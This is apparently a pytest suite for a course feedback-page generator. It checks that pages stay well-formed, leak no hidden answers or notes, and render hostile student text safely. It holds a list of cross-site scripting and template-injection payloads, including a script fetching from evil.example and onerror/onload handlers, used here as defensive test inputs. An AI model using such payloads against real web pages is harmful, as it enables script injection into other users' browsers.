"""The page a student gets back: what it shows, what it never shows, what hostile text can do."""

from __future__ import annotations

import json
import re
import tomllib
from dataclasses import replace
from html import unescape
from html.parser import HTMLParser
from itertools import pairwise
from pathlib import Path

import pytest
from classroom import classroom, module, submission
from hypothesis import given
from hypothesis import strategies as st

from course import checks
from course.files import CLONE
from course.grading import command, feedback, keys, paper, prose, release, slips, times
from course.grading.results import Marked
from course.homework import items
from course.homework.draws import COURSE, Draw
from course.homework.plain import as_plain

VOID = {"meta", "br", "hr", "img", "input", "link", "wbr"}
WRITTEN = release.written()


class Page(HTMLParser):
    """Reads a page strictly: every tag that opens has to close, in order."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.faults: list[str] = []
        self.feed(page)
        self.close()
        self.faults += [f"<{tag}> is never closed" for tag in self.open]

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open[-1] != tag:
            self.faults.append(f"</{tag}> where {self.open[-1:]} is open")
        else:
            self.open.pop()

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        if not {"style", "script"} & set(self.open):
            self.text.append(data)

    @property
    def words(self) -> str:
        return " ".join(" ".join(self.text).split())

    def count(self, tag: str) -> int:
        return sum(name == tag for name, _ in self.tags)


def sound(page: str) -> Page:
    """Read a page and hold it to what every page of ours must be."""
    read = Page(page)
    assert not read.faults, read.faults
    for tag, attributes in read.tags:
        assert tag not in {"script", "iframe", "object", "embed", "link", "img", "form", "base"}
        assert not any(name.startswith("on") for name in attributes), attributes
        assert not {"src", "srcset", "action", "background"} & set(attributes)
        assert (attributes.get("href") or "#").startswith("#"), attributes
    ids = [a["id"] for _, a in read.tags if "id" in a]
    assert len(ids) == len(set(ids))
    for tag in ("main", "header", "footer", "h1", "title", "style"):
        assert read.count(tag) == 1, tag
    assert read.count("table") == read.count("caption") >= 1
    assert "url(" not in page and "@import" not in page
    assert "default-src 'none'" in unescape(page)
    levels = [int(tag[1]) for tag, _ in read.tags if re.fullmatch("h[1-6]", tag)]
    assert all(b - a <= 1 for a, b in pairwise(levels)), levels
    assert not re.search("[\u202a-\u202e\u2066-\u2069\x00-\x08]", page)
    return read


@pytest.fixture(scope="module")
def students() -> list[Marked]:
    return classroom()


def test_every_page_of_a_class_is_sound(students: list[Marked]) -> None:
    for marked in students:
        sound(feedback.page(marked))


def test_the_page_says_marks_answers_and_what_was_found(students: list[Marked]) -> None:
    for marked in students[:12]:
        words = sound(feedback.page(marked)).words
        of = marked.of - (marked.essay.of if marked.essay.points is None else 0)
        assert f"{paper.number(marked.points)} of {paper.number(of)} points" in words
        for item in marked.items:
            assert " ".join(item.message.split()) in words
            slip = slips.named(item.misconception)
            if slip and item.counts < item.of:
                assert slip.name in words
        for repair in marked.repairs:
            assert repair in words
        if marked.essay.points is not None:
            assert marked.essay.comment in words


def test_notes_for_the_marker_and_other_students_are_never_shown(students: list[Marked]) -> None:
    noted = next(m for m in students if m.notes)
    page = unescape(feedback.page(noted))
    assert not any(note in page for note in noted.notes)
    others = [m.student for m in students if m.student != noted.student and len(m.student) > 4]
    assert not any(other in page for other in others)


def test_what_repairs_a_misconception_is_not_said_for_it_may_be_the_answer() -> None:
    page = unescape(feedback.page(submission("anna.k", {"more_loss_aversion": "A"})))
    assert checks.misconception("M07").name in page
    assert checks.misconception("M07").repair.partition(". ")[2] not in page
    assert "cancels" not in page


def worst(assignment: str) -> list[Marked]:
    """Make submissions with every answer that the tests of the keys know, right and wrong."""
    path = Path(__file__).parent / "submissions" / f"{assignment}.toml"
    data = tomllib.loads(path.read_text(encoding="utf-8"))
    by_turn: dict[int, dict[str, object]] = {}
    turns: dict[str, int] = {}
    for row in data["answer"]:
        turn = turns[row["item"]] = turns.get(row["item"], -1) + 1
        by_turn.setdefault(turn, {})[row["item"]] = as_plain(eval(row["types"]))
    return [submission(data["student"], said, assignment=assignment) for said in by_turn.values()]


@pytest.mark.parametrize("assignment", WRITTEN)
def test_nothing_hidden_leaks(assignment: str) -> None:
    pages = {f"{n}.html": feedback.page(m) for n, m in enumerate(worst(assignment))}
    assert len(pages) > 5
    texts = {name: Page(page).words for name, page in pages.items()}
    for files in (pages, texts):
        assert release.leaks(assignment, files) == []
    # The detector itself: an example in a page is found.
    example = release.guide.exemplars(assignment)[0].text
    assert release.leaks(assignment, {"x.html": example})


def test_a_right_answer_is_said_to_nobody_who_has_not_given_it(students: list[Marked]) -> None:
    key = module("P3")
    for marked in students:
        v = items.variant(Draw(COURSE, "P3", marked.student))
        right = f"{key.value_right(v):.2f}".lstrip("-")
        if marked.items[0].counts < marked.items[0].of and right not in marked.items[0].answer:
            assert right not in Page(feedback.page(marked)).words


HOSTILE = {
    "script": "<script>fetch('https://evil.example/')</script>",
    "style": "</style><style>body{display:none}</style>",
    "comment": "--><!-- <main> </main></body></html>",
    "event": '"><img src=x onerror=alert(1)><b onclick="x">',
    "link": "[a](javascript:alert(1)) [b](https://evil.example/x) <https://evil.example/y>",
    "picture": "![p](https://evil.example/p.png) ![q](data:image/svg+xml;base64,PHN2Zz4=)",
    "reference": "[r][1]\n\n[1]: https://evil.example/z 'onload=x'",
    "direction": "\u202egnp.exe\u202c \u2066\u2067 عربي\u200f",
    "control": "a\x00b\x1b[31mc\x85\ud800",
    "long word": "w" * 100_000,
    "braces": "{points} {0} {{x}} {marked.notes}",
    "entities": "&lt;script&gt; &#x3C;script&#x3E; &nbsp",
    "template": "${1+1} {{7*7}} <%= 1 %>",
    "cdata": "<![CDATA[<script>]]> <?php ?> <!DOCTYPE x>",
    "svg": "<svg onload=alert(1)><foreignObject><base href=//evil.example>",
    "headings": "# one\n###### six\n\nSetext\n===\n\n> > > deep\n\n---\n\n~~~\n</pre>\n~~~",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_text_stays_text(name: str) -> None:
    text = HOSTILE[name]
    said = {"value_of_gamble": text[:4000], "threshold": {text[:50]: text[:50]}}
    said |= {"more_loss_aversion": [text[:50]] * 3, "domains": {"1": text[:50], text[:20]: {}}}
    marked = submission("anna.k", {}, essay=f"## My claim and the evidence for it\n\n{text}\n")
    found = tuple(
        replace(item, answer=json.dumps(said.get(item.name)), answered=True, message=text)
        for item in marked.items
    )
    essay = replace(marked.essay, comment=text, points=3.0, missing=(text[:200],))
    marked = replace(marked, student=text[:300], items=found, essay=essay, repairs=(text[:300],))
    page = feedback.page(marked)
    sound(page)
    assert len(page) < 1_200_000
    raw = replace(found[0], answer=text)  # no JSON at all
    sound(feedback.page(replace(marked, items=(raw, *found[1:]))))


@given(st.text(max_size=300), st.text(max_size=60))
def test_any_text_gives_a_sound_page(essay: str, student: str) -> None:
    marked = submission("x", {"value_of_gamble": student}, essay=essay)
    sound(feedback.page(replace(marked, student=student)))


@pytest.mark.parametrize(
    "sign", ["[", "*", "`", "<", "![", "> ", "- ", "|", "_a_", "(", "\\", "&", "<!--"]
)
def test_no_essay_keeps_the_page_waiting(sign: str) -> None:
    from time import perf_counter

    start = perf_counter()
    prose.render(sign * (prose.MOST // len(sign)), "")
    assert perf_counter() - start < 5


def test_an_answer_nested_without_end_is_shown_as_it_is() -> None:
    marked = submission("anna.k", {})
    deep = replace(marked.items[0], answer="[" * 50_000 + "]" * 50_000, answered=True)
    sound(feedback.page(replace(marked, items=(deep, *marked.items[1:]))))


def test_links_of_an_essay_are_words() -> None:
    shown = prose.render(
        "[Walt](https://example.org/a?b=1&c=2) ![map](https://example.org/m.png)", ""
    )
    assert "<a" not in shown and "<img" not in shown
    assert "Walt (https://example.org/a?b=1&amp;c=2)" in shown and "[map]" in shown


def test_an_essay_far_too_long_is_cut_and_says_so() -> None:
    words = Page(f"<x>{prose.render('word ' * 20_000, '(cut; {n} in all)')}</x>").words
    assert words.endswith("… (cut; 100000 in all)")


def test_a_table_that_was_never_filled_in_is_no_answer() -> None:
    marked = submission("anna.k", {"domains": {"1": None, "2": None}})
    words = sound(feedback.page(marked)).words
    assert words.count("Your answer none") == 6 and "Entry" not in words


def test_a_blank_essay_has_been_read_by_nobody() -> None:
    words = sound(feedback.page(submission("anna.k", {}, essay=""))).words
    assert "0 of 15 points, since nothing was written" in words and "who has read it" not in words


def test_an_essay_that_nobody_has_marked_is_called_so_and_has_no_points() -> None:
    marked = submission("anna.k", {"reproduced": 12})
    assert marked.essay.points is None
    words = sound(feedback.page(marked)).words
    assert words.count("ot marked yet") == 3 and "0 of 15" not in words and "0 / 15" not in words
    assert "2 / 30 so far" in words and "4 %" not in words
    assert "2 of 30 points so far, for the questions. The essay, for up to 15 points more" in words
    assert "1 essay is not marked yet" in command.summary([marked], Path("x"))
    assert "2 essays are not marked yet" in command.summary([marked, marked], Path("x"))


def test_what_is_said_of_each_entry_of_a_table_stands_in_a_paragraph_of_its_own() -> None:
    marked = submission("anna.k", {"worlds": ["World 1"] * 5}, assignment="P2")
    message = next(item.message for item in marked.items if item.name == "worlds")
    assert len(message.splitlines()) >= 3
    page = feedback.page(marked)
    assert all(f"<p>{paper.escape(line)}</p>" in page for line in message.splitlines())


def test_marks_by_hand_are_said() -> None:
    marked = submission("anna.k", {"more_loss_aversion": "A"})
    found = [replace(i, manual=1.5) if i.name == "more_loss_aversion" else i for i in marked.items]
    words = sound(feedback.page(replace(marked, items=tuple(found)))).words
    assert "points were changed from 0 to 1.5" in words and "1.5 of 2 points" in words


def test_what_to_do_next_begins_where_most_was_lost() -> None:
    marked = submission("anna.k", {"more_loss_aversion": "B", "reproduced": 12})
    words = sound(feedback.page(marked)).words
    tail = words[words.index("What to do next") :]
    assert tail.index("The Curve Lab") < tail.index("Move the reference point")
    assert "Left open" in tail


def test_an_unknown_question_or_slip_is_no_obstacle() -> None:
    marked = submission("anna.k", {"value_of_gamble": 3})
    odd = replace(marked.items[0], name="unheard_of", misconception="P9.unheard-of")
    words = sound(feedback.page(replace(marked, items=(odd, *marked.items[1:])))).words
    assert "no place is noted here" in words and "unheard-of" not in words


# Names and places -----------------------------------------------------------------------------


@pytest.mark.parametrize("assignment", WRITTEN)
def test_every_slip_of_a_key_has_a_name_and_no_name_is_left_over(assignment: str) -> None:
    text = (keys.FOLDER / f"{assignment}.py").read_text(encoding="utf-8")
    used = set(re.findall(rf'"({assignment}\.[a-z]+(?:-[a-z]+)*)"', text))
    names = {id for id in slips._read()[0] if id.startswith(assignment)}
    assert used and used == names


@pytest.mark.parametrize("assignment", WRITTEN)
def test_every_question_says_where_it_was_taught(assignment: str) -> None:
    for item in items.assignment(assignment).items:
        place = slips.place(assignment, item.name)
        assert place is not None, item.name
        (path,) = (CLONE / "notebooks").glob(f"{place.lesson:02d}_*.ipynb")
        cells = json.loads(path.read_text(encoding="utf-8"))["cells"]
        heads = [line for cell in cells for line in "".join(cell["source"]).splitlines()]
        assert any(line.startswith(f"## {place.heading} · ") for line in heads), place


@pytest.mark.parametrize("assignment", WRITTEN)
def test_the_place_agrees_with_the_sentence_of_the_key(assignment: str) -> None:
    seen = 0
    for marked in worst(assignment):
        for item in marked.items:
            place = slips.place(assignment, item.name)
            for lesson in re.findall(r"[Gg]o back to lesson (\d)", item.message):
                assert place is not None and int(lesson) == place.lesson, item.message
                seen += 1
    assert seen > 5


def test_every_misconception_of_the_course_is_named() -> None:
    for id, known in checks.misconceptions().items():
        assert slips.named(id) == slips.Named(id, known.name)
    assert slips.named(None) is None


def test_every_text_is_used() -> None:
    folder = CLONE / "course" / "grading"
    for part, files in {
        "feedback": ("feedback", "prose"),
        "time": ("times",),
        "report": ("report", "statistics"),
        "exports": ("exports",),
    }.items():
        source = "".join((folder / f"{name}.py").read_text(encoding="utf-8") for name in files)
        unused = [n for n in paper.texts(part) if not re.search(f"[\"']{n}[\"']", source)]
        assert not unused, unused


def test_times_as_people_say_them() -> None:
    assert times.lateness(0.5) == "1 min" and times.lateness(7200) == "2 h 0 min"
    assert times.lateness(86_400 * 2) == "2 d 0 h" and times.lateness(3600) == "1 h 0 min"
    assert times.moment(None) is None and times.moment("yesterday") is None
    assert times.moment("2026-03-02 14:05:09 UTC") == "2 March 2026, 14:05 UTC"
